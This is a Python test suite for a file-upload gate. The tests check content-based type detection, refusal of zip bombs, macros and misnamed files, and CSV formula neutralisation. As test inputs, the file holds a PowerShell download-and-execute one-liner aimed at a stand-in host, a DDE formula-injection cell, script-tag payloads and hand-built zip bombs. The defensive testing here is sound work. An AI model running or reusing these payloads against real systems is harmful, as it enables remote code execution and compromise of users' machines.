"""Evidence files are recognised by content, never by name."""

import csv
import io
import struct
import zipfile
import zlib

import pytest

from lodestar.workshops import filetypes


def make_png() -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"\x00\xff\x00\x00"  # one red pixel, filter byte 0
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def make_pdf(pages: int = 1) -> bytes:
    """A real PDF (what pypdf reads): a catalogue, a page tree and ``pages`` blank A4 pages."""
    kids = " ".join(f"{3 + i} 0 R" for i in range(pages))
    objects = [b"<</Type /Catalog /Pages 2 0 R>>", f"<</Type /Pages /Kids [{kids}] /Count {pages}>>".encode()]
    objects += [b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>"] * pages
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj %s endobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer <</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def make_jpeg() -> bytes:
    """The markers a JPEG starts and ends with, around a (meaningless) body."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32 + b"\xff\xd9"


def make_xlsx() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["Staff group", "WTE"])
    wb.active.append(["Registered nurses", 182])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def make_docx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>')
    return buf.getvalue()


def make_plain_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "hello")
    return buf.getvalue()


CSV = b"staff_group,wte,vacancies\nregistered nurses,182,30\nsupport workers,96,7\n"


@pytest.mark.parametrize(
    "data, key",
    [
        (make_pdf(), "pdf"),
        (make_png(), "png"),
        (make_jpeg(), "jpeg"),
        (make_xlsx(), "xlsx"),
        (make_docx(), "docx"),
        (CSV, "csv"),
        ("name;ort\nJosé;Köln\n".encode("latin-1"), "csv"),
    ],
)
def test_allowed_files_are_recognised(data, key):
    assert filetypes.detect(data).key == key


@pytest.mark.parametrize(
    "data",
    [
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64,  # a Windows .exe renamed to .pdf
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",  # a web page pretending to be a PDF
        make_plain_zip(),
        b"GIF89a\x01\x00\x01\x00",
        b"",
        b"col1,col2\n1,2,3,4\n5\n6,7,8\n",  # ragged: not a table
    ],
)
def test_other_files_are_refused(data):
    assert filetypes.detect(data) is None


# ---------------------------------------------------------------------------- the whole gate (ADR 16)

HTML_AS_TEXT = b"Vacancy report\n<script>alert(document.cookie)</script>\n"
POWERSHELL = b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')\"\r\n"
FORMULA_CSV = b"=cmd|' /C calc'!A0,vacancies\nward 1,3\n"
MIB = 1024 * 1024
CRC_OF_1_GIB_OF_ZEROS = 0x5B64C2B0  # zlib.crc32 of 1024 * 1024 * 1024 zero bytes


def refusal(data: bytes, name: str) -> str:
    with pytest.raises(filetypes.Refused) as caught:
        filetypes.check(data, name)
    return str(caught.value)


def deflated_zeros(mib: int) -> bytes:
    """``mib`` MiB of zero bytes, deflated (about 1 KB a MiB) without ever holding them in memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b"\0" * MIB) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * mib + packer.flush()


def raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip written by hand: (name, deflated bytes, unpacked size, CRC) per entry, so a test declares what it likes."""
    out, central = bytearray(), bytearray()
    for name, packed, size, crc in entries:
        encoded = name.encode()
        fields = (8, 0, 0x21, crc, len(packed), size, len(encoded), 0)  # deflated, 1980-01-01, sizes, name
        central += struct.pack("<IHHH", 0x02014B50, 20, 20, 0) + struct.pack("<HHHIIIHH", *fields)
        central += struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + encoded
        out += struct.pack("<IHH", 0x04034B50, 20, 0) + struct.pack("<HHHIIIHH", *fields) + encoded + packed
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + end)


def office_with(source: bytes, extra: list[tuple[str, bytes, int, int]]) -> bytes:
    """An XLSX or DOCX file's own parts, deflated again, followed by ``extra`` entries."""
    entries = []
    with zipfile.ZipFile(io.BytesIO(source)) as zf:
        for name in zf.namelist():
            data = zf.read(name)
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            entries.append((name, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data)))
    return raw_zip(entries + extra)


def bomb(source: bytes, name: str) -> bytes:
    """A 1 MB file holding a 1 GiB part (honestly declared)."""
    return office_with(source, [(name, deflated_zeros(1024), 1024 * MIB, CRC_OF_1_GIB_OF_ZEROS)])


@pytest.mark.parametrize(
    "data, name, key",
    [
        (make_pdf(), "summary.pdf", "pdf"),
        (make_pdf(3), "Summary.PDF", "pdf"),
        (make_png(), "chart.png", "png"),
        (make_jpeg(), "photo.jpg", "jpeg"),
        (make_jpeg(), "photo.JPEG", "jpeg"),
        (make_xlsx(), "wte.xlsx", "xlsx"),
        (make_docx(), "notes.docx", "docx"),
        (CSV, "wte.csv", "csv"),
        (FORMULA_CSV, "wte.csv", "csv"),  # accepted, and neutralised on download
        (office_with(make_xlsx(), []), "rezipped.xlsx", "xlsx"),
    ],
)
def test_allowed_files_under_their_own_names_pass_the_gate(data, name, key):
    assert filetypes.check(data, name).key == key


@pytest.mark.parametrize(
    "data, name, message",
    [
        (
            HTML_AS_TEXT,
            "report.html",
            "The file name must end in .pdf, .xlsx, .csv, .docx, .png, .jpg or .jpeg (this one ends in .html)",
        ),
        (
            POWERSHELL,
            "run.bat",
            "The file name must end in .pdf, .xlsx, .csv, .docx, .png, .jpg or .jpeg (this one ends in .bat)",
        ),
        (
            CSV,
            "wte",
            "The file name must end in .pdf, .xlsx, .csv, .docx, .png, .jpg or .jpeg (this one has no ending)",
        ),
        (
            CSV,
            "summary.pdf",
            "The file name ends in .pdf but the file is a CSV file. Rename it to end in .csv, or choose the right file",
        ),
        (
            make_xlsx(),
            "wte.csv",
            "The file name ends in .csv but the file is an Excel spreadsheet. Rename it to end "
            "in .xlsx, or choose the right file",
        ),
        (
            make_png(),
            "chart.jpg",
            "The file name ends in .jpg but the file is a PNG image. Rename it to end in .png, "
            "or choose the right file",
        ),
    ],
)
def test_the_name_must_end_in_the_detected_type(data, name, message):
    assert refusal(data, name) == message


DAMAGED_PDF = "The PDF file could not be read: it is damaged or is not really a PDF. Save it again as a PDF"


@pytest.mark.parametrize(
    "data, message",
    [
        (b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n", DAMAGED_PDF),
        (b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n", DAMAGED_PDF),
        (make_pdf()[:-40], DAMAGED_PDF),
        (make_pdf(0), "The PDF file has no pages"),
    ],
    ids=["html-after-header", "html-between-header-and-eof", "truncated", "no-pages"],
)
def test_a_pdf_must_parse_end_with_eof_and_have_a_page(data, message):
    assert refusal(data, "report.pdf") == message


ZIP_TOO_BIG = (
    "The file could not be checked safely: it unpacks to more than 100 MB, or part of it unpacks to more than "
    "200 times its size. Save it again, or as a PDF, and try again"
)


@pytest.mark.parametrize(
    "data, name",
    [
        (bomb(make_xlsx(), "xl/worksheets/sheet2.xml"), "wte.xlsx"),
        (bomb(make_docx(), "word/media/image1.png"), "notes.docx"),
    ],
    ids=["xlsx", "docx"],
)
def test_an_office_file_holding_a_huge_part_is_refused_before_unpacking(data, name):
    assert len(data) < 2 * MIB
    assert refusal(data, name) == ZIP_TOO_BIG


def test_too_much_unpacked_in_total_is_refused():
    ten = deflated_zeros(10)
    # Ratio about 10: each part is within the ratio limit; 11 of them are 110 MB in all.
    parts = [(f"xl/media/part{i}.bin", ten + b"\0" * (len(ten) * 100), 10 * MIB, 0) for i in range(11)]
    assert refusal(office_with(make_xlsx(), parts), "wte.xlsx") == ZIP_TOO_BIG


def test_an_office_file_whose_parts_do_not_match_their_checksums_is_refused():
    lying = office_with(make_xlsx(), [("xl/media/image1.png", deflated_zeros(1), MIB, 12345)])
    assert refusal(lying, "wte.xlsx") == "The file is damaged: it could not be unpacked. Save it again and try again"


def test_an_office_file_with_macros_is_refused():
    macros = office_with(make_xlsx(), [("xl/vbaProject.bin", zlib.compress(b"x")[2:-4], 1, zlib.crc32(b"x"))])
    assert refusal(macros, "wte.xlsx") == (
        "The file contains macros. Save it as a file without macros (.xlsx or .docx)"
    )


def test_a_csv_must_parse_and_be_a_table_to_its_last_row():
    broken_quotes = b'name,wte\n"nurses"x,3\n'
    assert refusal(broken_quotes, "wte.csv") == "The CSV file could not be read: row 2 is not valid CSV"
    ragged_later = CSV + b"a,b,c\n" * 60 + b"<script>alert(1)</script>\n" + b"a,b,c\n" * 3
    assert refusal(ragged_later, "wte.csv") == "The CSV file is not a table: its rows do not all have 3 columns"


def test_damaged_images_are_refused():
    assert refusal(make_png()[:-12], "chart.png") == "The PNG image is damaged. Save it again and try again"
    assert refusal(make_jpeg()[:-2], "photo.jpg") == "The JPEG image is damaged. Save it again and try again"


# ---------------------------------------------------------------------------- serving back


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formula_cells_get_an_apostrophe_on_the_way_out():
    safe = read_back(filetypes.neutralised_csv(FORMULA_CSV))
    assert safe == [["'=cmd|' /C calc'!A0", "vacancies"], ["ward 1", "3"]]
    mixed = b"name,change,note\nward 1,-3,+44 7700\nward 2,@SUM(A1),\tx\n"
    assert read_back(filetypes.neutralised_csv(mixed)) == [
        ["name", "change", "note"],
        ["ward 1", "'-3", "'+44 7700"],
        ["ward 2", "'@SUM(A1)", "'\tx"],
    ]


def test_a_semicolon_csv_hiding_a_formula_from_its_own_delimiter_is_rewritten_for_commas():
    hidden = b"ward;note\nward 1;ok,=cmd|' /C calc'!A0\nward 2;fine\n"
    assert read_back(filetypes.neutralised_csv(hidden)) == [
        ["ward", "note"],
        ["ward 1", "ok,=cmd|' /C calc'!A0"],  # one cell to a comma reader: nothing starts with =
        ["ward 2", "fine"],
    ]


def test_a_csv_without_formulas_is_sent_as_stored():
    assert filetypes.neutralised_csv(CSV) is None


@pytest.mark.parametrize(
    "name, kind, expected",
    [
        ("wte.csv", "csv", "wte.csv"),
        ("Photo.JPEG", "jpeg", "Photo.JPEG"),
        ("report.html", "csv", "report.csv"),  # stored before names were checked
        ("run.bat", "csv", "run.csv"),
        ("", "pdf", "evidence.pdf"),
        ("C:\\Users\\me\\wte.csv", "csv", "wte.csv"),
        ("we\r\nird.pdf", "pdf", "weird.pdf"),
        ("odd.exe", None, "odd.bin"),
    ],
)
def test_downloads_are_named_with_the_detected_types_ending(name, kind, expected):
    detected = getattr(filetypes, kind.upper()) if kind else None
    assert filetypes.download_name(name, detected) == expected


def test_a_long_line_of_quotes_is_answered_at_once():
    """csv.Sniffer took minutes on such a line (its time grows with the square of the line's length)."""
    import time

    started = time.monotonic()
    assert refusal(b'a,"' * 100_000, "wte.csv") == "The CSV file could not be read: row 1 is not valid CSV"
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    "text, expected",
    [
        ("name,wte\nnurses,3\n", ","),
        ("name;note\nward 1;a, b\nward 2;c, d\n", ";"),
        ("name\twte\nnurses\t3\n", "\t"),
        ('name,note\nward 1,"a; b"\n', ","),
        ("one column\nno delimiter\n", ","),
    ],
)
def test_the_delimiter_is_the_one_that_splits_every_row_alike(text, expected):
    assert filetypes.delimiter(text) == expected


def test_only_the_last_row_of_a_csv_may_be_ragged():
    assert filetypes.check(CSV + b"total,278\n", "wte.csv") is filetypes.CSV
    assert refusal(CSV * 20 + b"total,278\n" + CSV, "wte.csv") == (
        "The CSV file is not a table: its rows do not all have 3 columns"
    )
